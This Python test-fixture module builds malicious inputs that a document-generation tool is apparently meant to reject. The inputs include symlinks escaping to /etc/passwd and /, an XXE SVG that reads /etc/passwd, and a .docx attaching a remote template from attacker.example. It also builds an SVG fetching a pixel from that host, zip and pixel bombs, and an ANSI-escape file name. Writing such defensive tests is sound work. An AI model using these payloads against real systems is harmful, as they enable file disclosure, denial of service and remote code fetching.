"""Set-ups for tests/badinput cases that cannot be committed files (named by `setup:` in case.yaml)."""

from __future__ import annotations

import struct
import sys
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from xlsx_raw import empty_string_cells, header_row, inline, write_xlsx  # noqa: E402

OUTSIDE = "/etc/passwd"  # a file every Unix has, outside any project


def _link(project: Path, name: str, target: str) -> None:
    path = project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to(target)


def symlink_template(project: Path) -> None:
    _link(project, "templates/book.html", OUTSIDE)


def symlink_proposals(project: Path) -> None:
    _link(project, "inputs/proposals/g2.csv", OUTSIDE)


def symlink_catalog(project: Path) -> None:
    _link(project, "locales/ru/LC_MESSAGES/book.po", OUTSIDE)


def symlink_logo(project: Path) -> None:
    _link(project, "inputs/assets/kas.svg", OUTSIDE)


def symlink_output(project: Path) -> None:
    _link(project, "output", "/")


def symlink_folder(project: Path) -> None:
    _link(project, "inputs/proposals/more", "/etc")


def symlink_inside(project: Path) -> None:
    """A symlink that stays inside the project is fine."""
    _link(project, "inputs/proposals/g1-copy.yaml", "g1.yaml")
    (project / "inputs/proposals/g1-copy.yaml").unlink()
    _link(project, "inputs/assets/logo.svg", "kas.svg")


def reference_attached_template(project: Path) -> None:
    """A reference.docx whose settings attach a template on a server (Word fetches it on open)."""
    source = Path(__file__).resolve().parents[2] / "templates" / "reference.docx"
    target = project / "templates" / "reference.docx"
    target.parent.mkdir(parents=True, exist_ok=True)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.'
            'example/normal.dotm" TargetMode="External"/><Relationship Id="rIdT2" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" '
            'TargetMode="External"/></Relationships>')
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
            new.writestr(info, data)
        new.writestr("word/_rels/settings.xml.rels", rels)


def _png(width: int, height: int, body: bytes | None = None) -> bytes:
    """Return a PNG with this header; `body` replaces the (otherwise valid, tiny) image data."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = body if body is not None else zlib.compress(b"\x00" * (width + 1) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _logo(project: Path, data: bytes, name: str = "logo.png") -> None:
    (project / "inputs" / "assets" / name).write_bytes(data)
    conference = project / "inputs" / "conference.yaml"
    conference.write_text(conference.read_text("utf-8").replace("inputs/assets/kas.svg", f"inputs/assets/{name}"),
                          "utf-8")


def logo_oversized(project: Path) -> None:
    _logo(project, _png(1, 1) + b"\0" * (11 * 1024 * 1024))


def logo_damaged(project: Path) -> None:
    _logo(project, _png(40, 20, body=b"this is not deflate data"))


def logo_pixel_bomb(project: Path) -> None:
    _logo(project, _png(100_000, 100_000, body=zlib.compress(b"")))


def logo_not_an_image(project: Path) -> None:
    _logo(project, b"%PDF-1.7\n% a PDF is not a logo\n", "logo.pdf")


def xlsx_zip_bomb(project: Path) -> None:
    """A 300 KB workbook whose sheet inflates to 300 MiB."""
    def rows():
        yield header_row()
        for _ in range(300):
            yield " " * (1 << 20)

    write_xlsx(project / "inputs/proposals/bomb.xlsx", rows(), compresslevel=9)


def xlsx_million_empty_cells(project: Path) -> None:
    write_xlsx(project / "inputs/proposals/empty.xlsx", empty_string_cells(1_000_000))


def xlsx_lying_dimension(project: Path) -> None:
    """Two real rows under a <dimension> claiming the whole sheet (A1:XFD1048576): read as two rows."""
    row = "".join(inline(f"{c}2", v) for c, v in zip("ABCDEF", ("G2-01", "G2", "D2", "ru", "Молодёжь",
                                                                 "Создать молодёжные советы.")))
    write_xlsx(project / "inputs/proposals/wide.xlsx", [header_row(), f'<row r="2">{row}</row>'],
               dimension="A1:XFD1048576")


def yaml_too_large(project: Path) -> None:
    with open(project / "inputs/proposals/huge.yaml", "w", encoding="utf-8") as handle:
        handle.write("# padding\n" * (34 * 1024 * 1024 // 10))


def output_is_a_file(project: Path) -> None:
    (project / "output").write_text("not a folder\n")


def groups_folder_is_a_file(project: Path) -> None:
    (project / "output").mkdir()
    (project / "output/groups").write_text("not a folder\n")


def editions_folder_is_a_file(project: Path) -> None:
    (project / "output").mkdir()
    (project / "output/editions").write_text("not a folder\n")


def xlsx_office_habits(project: Path) -> None:
    """RELIABILITY 5: a formula without a saved result, a merge across columns, a date, a hidden sheet, 1.0 ids."""
    import datetime as dt

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Proposals"
    sheet.append(["id", "group", "direction", "language", "title", "text", "votes"])
    sheet.append(["G2-01", "G2", "D2", "ru", "Молодёжные советы", "Создать советы.", 7.0])
    sheet.append(["G2-02", "G2", "D2", "ru", "Формула", "=CONCAT(\"a\",\"b\")", None])
    sheet.append(["G2-03", "G2", "D1", "ru", dt.datetime(2025, 3, 4), "Дата вместо текста.", None])
    sheet.append(["G2-04", "G2", "D1", "ru", "Объединено", None, None])
    sheet.merge_cells("E5:F5")
    hidden = book.create_sheet("Old")
    hidden.append(["id", "group"])
    hidden.append(["G2-99", "G2"])
    hidden.sheet_state = "hidden"
    book.save(project / "inputs/proposals/g2.xlsx")


def svg_logo_with_entity(project: Path) -> None:
    """An SVG whose DOCTYPE would read /etc/passwd into the picture (XXE)."""
    _logo(project, b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><text>&x;</text></svg>', "logo.svg")


def svg_logo_loading_a_url(project: Path) -> None:
    """An SVG that pulls a picture from a server when drawn."""
    _logo(project, b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                   b'width="40" height="20"><image xlink:href="http://attacker.example/pixel.png" '
                   b'width="40" height="20"/></svg>', "logo.svg")


def file_name_with_escapes(project: Path) -> None:
    """A file name holding a newline and an ANSI escape sequence (a terminal would obey it)."""
    (project / "inputs/proposals" / "evil\n\x1b[2Jname.yaml").write_text("- id: G1-02\n  group: G9\n", "utf-8")


def reference_with_macros(project: Path) -> None:
    """A reference.docx carrying a VBA project (macros would travel into every book)."""
    source = Path(__file__).resolve().parents[2] / "templates" / "reference.docx"
    target = project / "templates" / "reference.docx"
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info, old.read(info))
        new.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really OLE")


def xlsx_hidden_rows(project: Path) -> None:
    """Issue 10: a row hidden by hand, rows hidden by a filter left on, a hidden column holding votes."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Proposals"
    sheet.append(["id", "group", "direction", "language", "title", "text", "votes"])
    rows = [("D2", "Открыть ресурсный центр", "Открыть в Караганде ресурсный центр для НПО."),
            ("D1", "Упростить отчётность", "Сократить число обязательных форм отчётности НПО."),
            ("D2", "Обучать волонтёров", "Проводить ежегодную школу волонтёров в областях."),
            ("D1", "Публиковать гранты", "Публиковать итоги грантовых конкурсов в открытых данных.")]
    for n, (direction, title, text) in enumerate(rows, start=1):
        sheet.append([f"G2-0{n}", "G2", direction, "ru", title, text, n])
    sheet.auto_filter.ref = "A1:G5"
    sheet.auto_filter.add_filter_column(2, ["D2"])
    for row in (3, 5):  # what Excel stores for the D1 rows the filter hides
        sheet.row_dimensions[row].hidden = True
    sheet.column_dimensions["G"].hidden = True
    book.save(project / "inputs/proposals/g2.xlsx")


def review_html_is_a_folder(project: Path) -> None:
    (project / "output/review.html").mkdir(parents=True)


def xlsx_title_row_and_formats(project: Path) -> None:
    """A title row merged above the header; numbers in text fields that Excel shows formatted."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Группа 2"
    sheet.append(["Предложения рабочей группы 2"])
    sheet.merge_cells("A1:G1")
    sheet.append(["id", "group", "direction", "language", "title", "text", "votes"])
    sheet.append(["G2-01", "G2", "D2", "ru", "Молодёжные советы", "Создать молодёжные советы при акиматах.", 7])
    sheet.append(["G2-02", "G2", "D1", "ru", "Доля грантов НПО", 0.25, 1200])
    sheet.append(["G2-03", "G2", "D1", "ru", "Бюджет центров", 1234.5, 3])
    sheet["F4"].number_format = "0%"
    sheet["F5"].number_format = '#,##0.00\\ "тг"'
    sheet["G4"].number_format = "#,##0"  # votes are a number: its format is a view
    book.save(project / "inputs/proposals/g2.xlsx")
